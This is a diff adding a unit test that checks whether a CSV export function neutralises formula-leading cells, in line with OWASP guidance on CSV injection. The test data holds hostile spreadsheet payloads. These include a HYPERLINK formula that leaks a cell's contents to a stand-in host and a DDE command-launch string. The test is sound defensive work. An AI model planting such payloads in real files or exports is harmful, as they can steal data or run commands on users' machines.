@@ -46,4 +46,17 @@ describe('exports', () => {
       expect(row.slice(3)).toEqual([persona.name, persona.label]);
     });
   });
+
+  it('CSV neutralises formula-leading cells (OWASP CSV injection) and leaves numbers as numbers', () => {
+    const hostile = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r=1+1'];
+    const columns = ['id', 'note', '=header'];
+    const data = segmentIndex.map((i, n) => [i + 1, hostile[n % hostile.length], n % 2 ? -2.5 : '-2.5']);
+    const clusterOf = new Map(Array.from(segment.rowIds, (id, i) => [id, assignments[i]]));
+    const csv = segmentRowsCsv(columns, data, segment.rowIds, clusterOf, set);
+    const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
+    expect(parsed[0][2]).toBe("'=header");
+    hostile.forEach((cell, n) => expect(parsed[n + 1][1]).toBe(`'${cell}`));
+    for (const row of parsed.slice(1)) expect(row[2]).toBe('-2.5');
+    for (const row of parsed) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!2\.5$)/);
+  });
 });
